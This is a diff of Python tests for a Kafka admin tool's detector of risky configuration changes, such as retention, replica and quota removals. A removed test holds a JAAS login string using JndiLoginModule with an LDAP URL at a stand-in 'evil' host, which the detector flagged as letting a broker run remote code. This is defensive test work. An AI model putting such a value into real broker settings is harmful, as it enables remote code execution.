@@ -17,9 +17,8 @@ from kadmin_nb.plans.execution import executor
 from kadmin_nb.plans.execution.executor import Hooks
 from kadmin_nb.plans.execution.preflight import Gate
 from kadmin_nb.plans.journal import replay
+from kadmin_nb.plans.observed_state import ObservedState
 from kadmin_nb.plans.plan_file import PlanHead
-from kadmin_nb.plans.secret_resolver import nowhere
-from kadmin_nb.secrets import Secret
 from tests.double import FakeKafka
 from tests.plans.plan_rows import rows
 from tests.plans.scenes import hold
@@ -35,7 +34,7 @@ def changed(key: str, old: str | None, new: str | None, resource: Resource = BRO
 
 def words(change: Change) -> list[str]:
     """What it weakens, where both values are set: nobody is asked."""
-    return [danger.code for danger in dangers.certain([change])]
+    return [danger.code for danger in dangers.judged([change], ObservedState())]
 
 
 WEAKER = {
@@ -212,12 +211,8 @@ def test_it_is_dangerous_exactly_where_fewer_copies_count_then(topic, everyone, 
 def test_a_value_that_nobody_may_see_counts(kafka):
     """A login's configuration was replaced unseen: there was no old value to compare."""
     secret = changed("listener.name.x.plain.sasl.jaas.config", None, "env:JAAS", old_known=False, is_secret=True)
-    text = Secret("com.sun.security.auth.module.JndiLoginModule required user.provider.url='ldap://evil/';")
-    [danger] = dangers.found(kafka, [secret], lambda reference: text)
-    assert danger.code == "login"
-    assert "it has JndiLoginModule, which can make a broker run code from elsewhere" in danger.message
-    assert "evil" not in danger.message
-    [unseen] = dangers.found(kafka, [secret], nowhere)
+    [unseen] = dangers.found(kafka, [secret])
+    assert unseen.code == "login"
     assert unseen.message.startswith("a value that is not shown is set or replaced: ")
 
 
@@ -243,7 +238,6 @@ def test_an_empty_topic_has_nothing_to_lose(kafka):
     places = [f"topic=t {RETENTION}", f"topic=t {MIN_ISR}", f"topic=new {MIN_ISR}"]
     told = [f"{danger.target} {danger.key}" for danger in dangers.found(kafka, plan.changes)]
     assert sorted(told) == sorted(places)
-    assert words(changed(RETENTION, "2", "1", TOPIC)) == [], "the row alone does not tell whether the topic is empty"
     kafka.cluster.may_read = False
     assert kafka.empty_topics(["new"]) == set()
 
@@ -279,7 +273,7 @@ LIFTED = {
     "all of the named ones, with it behind": ([quota("user=a", None), quota("user=b", None)], []),
     "all of the named ones, and it": (
         [quota("user=a", None), quota("user=b", None), quota("user=<default>", None)],
-        ["all 2 quotas of the level USER are removed, and none is for everyone", TAKEN_AWAY],
+        [TAKEN_AWAY],
     ),
     "some of the named ones, and it": ([quota("user=a", None), quota("user=<default>", None)], [TAKEN_AWAY]),
     "one that is not there": ([quota("client-id=<default>", None)], []),
@@ -302,7 +296,7 @@ ALLOWED = f"{MIN_ISR} topic=t"
 def gated(kafka: FakeKafka, plan: kn.Plan, pages: Pages, *allow: str) -> list[str]:
     """The states of the rows, applied as `Cluster.apply` does it."""
     journal = pages.opened()
-    gate = Gate(kafka, plan, nowhere, allow, plan.reason)
+    gate = Gate(kafka, plan, allow, plan.reason)
     return [outcome.state for outcome in executor.apply(kafka, plan, journal, hooks=Hooks(gate=gate.pass_)).outcomes]
 
 
